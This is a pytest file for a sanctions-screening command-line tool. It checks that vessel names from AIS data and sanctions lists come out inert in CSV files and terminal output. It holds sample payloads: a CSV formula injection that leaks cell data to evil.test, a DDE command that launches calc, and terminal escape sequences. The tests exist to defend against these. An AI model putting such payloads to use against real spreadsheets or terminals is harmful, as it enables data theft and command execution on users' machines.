"""Inert output: names from AIS and lists cannot run as spreadsheet formulas or drive the terminal.

One test per output path: ``events`` (table, --csv), ``detect``'s table, ``screen`` (table,
--json, --out) and ``score-pairs`` --out.
"""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

import sanctionwatch.screening
from sanctionwatch.cli.app import app
from sanctionwatch.export.inert import spreadsheet_cell, terminal_text, write_csv
from sanctionwatch.schema import EVENTS
from sanctionwatch.screening.index import ScreeningIndex
from sanctionwatch.screening.matcher import Record
from sanctionwatch.screening.normalize import name_forms
from sanctionwatch.screening.screen import Screener
from sanctionwatch.store import DuckDBStore

runner = CliRunner()
T0 = datetime(2022, 1, 3, tzinfo=UTC)

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x07"  # OSC: sets the terminal window title
ESCAPED_NAME = f"EVIL{CLEAR}{TITLE} SHIP"
LINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
CMD = "+CMD|' /C calc'!A0"


def _assert_terminal_safe(text: str) -> None:
    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert "pwned" not in text.lower()  # the title text went with its sequence
    assert "[2J" not in text  # no residue of the clear-screen sequence


def _assert_inert_cell(cell: str) -> None:
    assert cell[0] not in "=+-@\t\r", cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        (CMD, "'" + CMD),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-33.5", "-33.5"),  # a plain number stays a number
        ("+1e5", "+1e5"),
        ("KIM, Jong Un", "KIM, Jong Un"),
        ("", ""),
    ],
)
def test_spreadsheet_cell(value, expected):
    assert spreadsheet_cell(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ESCAPED_NAME, "EVIL SHIP"),
        ("A\x1b]2;t\x1b\\B", "AB"),  # OSC ended by ST
        ("A\x9b31mB\x9d0;t\x9cC", "ABC"),  # 8-bit CSI and OSC
        ("A\x1bcB\x1b7C", "ABC"),  # reset, save cursor
        ("A\x00\x08\x7f\x85B", "AB"),
        ("tab\there\nnext", "tab\there\nnext"),
        ("Müller 金正恩 [red]x[/red]", "Müller 金正恩 [red]x[/red]"),
    ],
)
def test_terminal_text(value, expected):
    assert terminal_text(value) == expected


def test_write_csv_neutralises_header_and_cells():
    buf = io.StringIO()
    assert write_csv(buf, ["=h", "b"], [[LINK, None], ["ok", -1.5]]) == 2
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=h", "b"], ["'" + LINK, ""], ["ok", "-1.5"]]


@pytest.fixture()
def event_store(tmp_path):
    ev = EVENTS.conform(
        pl.DataFrame(
            {
                "event_id": ["a", "b"],
                "event_type": ["identity_change", "port_call"],
                "subtype": ["name", None],
                "mmsi": [412000001, 412000002],
                "start_time": [T0, T0 + timedelta(hours=1)],
                "end_time": [T0, T0 + timedelta(hours=5)],
                "duration_h": [0.0, 4.0],
                "lat": [-33.5, 38.9],
                "lon": [18.4, 125.1],
                "old_value": [LINK, None],
                "new_value": [ESCAPED_NAME, None],
                "port_name": [None, CMD + TITLE],
            },
            strict=False,
        )
    )
    path = tmp_path / "s.duckdb"
    with DuckDBStore(path) as st:
        st.add_events(ev)
    return path


def test_events_table_strips_escapes_from_names(event_store):
    res = runner.invoke(app, ["events", "--store", str(event_store)])
    assert res.exit_code == 0, res.output
    _assert_terminal_safe(res.stdout)
    assert "EVIL SHIP" in res.stdout


def test_events_csv_cells_are_inert(event_store):
    res = runner.invoke(app, ["events", "--store", str(event_store), "--csv"])
    assert res.exit_code == 0, res.output
    rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(res.stdout))}
    assert rows["a"]["old_value"] == "'" + LINK
    assert rows["b"]["port_name"] == "'" + CMD + TITLE
    assert rows["a"]["lat"] == "-33.5"  # numbers are not quoted
    for row in rows.values():
        for cell in row.values():
            if cell and not cell.lstrip("-").replace(".", "").isdigit():
                _assert_inert_cell(cell)


def test_events_json_escapes_controls(event_store):
    res = runner.invoke(app, ["events", "--store", str(event_store), "--json"])
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.stdout
    rows = {r["event_id"]: r for r in map(json.loads, res.stdout.splitlines())}
    assert rows["a"]["new_value"] == ESCAPED_NAME  # the data itself is kept, escaped


def test_detect_table_strips_escapes_from_ais_names(tmp_path):
    """A MarineCadastre CSV whose ship renames itself to a name holding terminal escapes."""
    header = ("MMSI,BaseDateTime,LAT,LON,SOG,COG,Heading,VesselName,IMO,CallSign,VesselType,"
              "Status,Length,Width,Draft,Cargo,TransceiverClass")
    lines = [header]
    for i in range(60):
        t = T0 + timedelta(minutes=5 * i)
        name = "GOOD SHIP" if i < 30 else ESCAPED_NAME
        lines.append(f"412000001,{t:%Y-%m-%dT%H:%M:%S},30.0,{125 + i * 0.01:.4f},6.0,90,90,"
                     f"{name},IMO9074729,3EAB4,80,0,100,20,8,,A")
    ais = tmp_path / "AIS_2022_01_03.csv"
    ais.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = runner.invoke(app, ["detect", str(ais), "--out", str(tmp_path / "out"), "--no-store"])
    assert res.exit_code == 0, res.output
    assert "GOOD SHIP -> EVIL SHIP" in res.stdout  # the rename is shown...
    _assert_terminal_safe(res.stdout)  # ...without its escapes


@pytest.fixture()
def escaped_screener(monkeypatch):
    records = [
        Record(id=f"x-{TITLE}1", schema="Vessel", caption=ESCAPED_NAME + " \x9b31m[red]RED[/red]",
               names=("EVIL SHIP",), datasets=(f"list{CLEAR}",),
               forms=tuple(name_forms("EVIL SHIP", "Vessel"))),
    ]
    screener = Screener(ScreeningIndex(records))
    monkeypatch.setattr(sanctionwatch.screening, "load_screener", lambda *a: screener)
    return screener


def test_screen_table_strips_escapes_from_list_names(escaped_screener):
    res = runner.invoke(app, ["screen", "EVIL SHIP"])
    assert res.exit_code == 0, res.output
    _assert_terminal_safe(res.stdout)
    assert "EVIL SHIP [red]RED[/red]" in res.stdout  # shown as written, not as markup


def test_screen_json_writes_no_raw_controls(escaped_screener):
    res = runner.invoke(app, ["screen", "EVIL SHIP", "--json"])
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout and "\x9b" not in res.stdout
    assert json.loads(res.stdout)[0]["name"] == ESCAPED_NAME + " \x9b31m[red]RED[/red]"


def test_screen_out_cells_are_inert(tmp_path):
    """Formula names in the input and in a loaded list both come out as text."""
    ftm = tmp_path / "inert.ftm.json"
    ftm.write_text(json.dumps({
        "id": "t-formula", "caption": LINK.replace("Click", "GRAND CARRIER"), "schema": "Vessel",
        "properties": {"name": [LINK.replace("Click", "GRAND CARRIER")]},
        "datasets": ["inert_test"], "target": True,
    }) + "\n", encoding="utf-8")
    store = tmp_path / "lists.duckdb"
    res = runner.invoke(app, ["lists", "load", str(ftm), "--list-date", "2026-01-01",
                              "--store", str(store)])
    assert res.exit_code == 0, res.output
    names = tmp_path / "names.csv"
    write = csv.writer(names.open("w", newline="", encoding="utf-8"))
    write.writerows([["name"], [LINK], [CMD], ["GRAND CARRIER"]])
    del write
    out = tmp_path / "out.csv"
    res = runner.invoke(app, ["screen", "--input", str(names), "--out", str(out),
                              "--store", str(store)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["name"] for r in rows] == ["'" + LINK, "'" + CMD, "GRAND CARRIER"]
    assert rows[2]["match_id"] == "t-formula"
    assert rows[2]["match_name"].startswith("'=HYPERLINK(")
    for row in rows:
        for cell in row.values():
            if cell:
                _assert_inert_cell(cell)


def test_score_pairs_out_cells_are_inert(tmp_path):
    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["name1", "name2", "=note"], [LINK, CMD, "@x"]])
    out = tmp_path / "scores.csv"
    res = runner.invoke(app, ["score-pairs", str(pairs), "--out", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[0][:3] == ["name1", "name2", "'=note"]
    assert rows[1][:3] == ["'" + LINK, "'" + CMD, "'@x"]


def test_every_csv_the_cli_writes_goes_through_write_csv():
    """No other CSV writer in the commands: a new one must use export/inert.py."""
    src = Path(__file__).resolve().parents[2] / "src" / "sanctionwatch"
    writers = []
    for path in [*src.glob("cli/*.py"), *src.glob("screening/*.py"), *src.glob("export/*.py")]:
        text = path.read_text(encoding="utf-8")
        if path.name != "inert.py" and ("csv.writer" in text or "DictWriter" in text):
            writers.append(path.name)
        if "write_csv(" in text and "spreadsheet_frame" not in text and "inert" not in text:
            writers.append(path.name)
    assert writers == []


def test_lists_tables_show_list_names_as_written(tmp_path):
    """Brackets in a listed name are text, not rich markup (which would hide or style them)."""
    ftm = tmp_path / "brackets.ftm.json"
    name = "[red]SEA[/red] [link=http://evil.test]STAR[/link]"
    ftm.write_text(json.dumps({
        "id": "t-brackets", "caption": name, "schema": "Vessel",
        "properties": {"name": [name]}, "datasets": ["inert_test"], "target": True,
    }) + "\n", encoding="utf-8")
    store = tmp_path / "lists.duckdb"
    res = runner.invoke(app, ["lists", "load", str(ftm), "--list-date", "2026-01-01",
                              "--store", str(store)])
    assert res.exit_code == 0, res.output
    for args in (["--schema", "Vessel"], ["t-brackets"]):
        res = runner.invoke(app, ["lists", "show", *args, "--store", str(store)])
        assert res.exit_code == 0, res.output
        assert name in " ".join(res.stdout.split()), res.stdout
        _assert_terminal_safe(res.stdout)
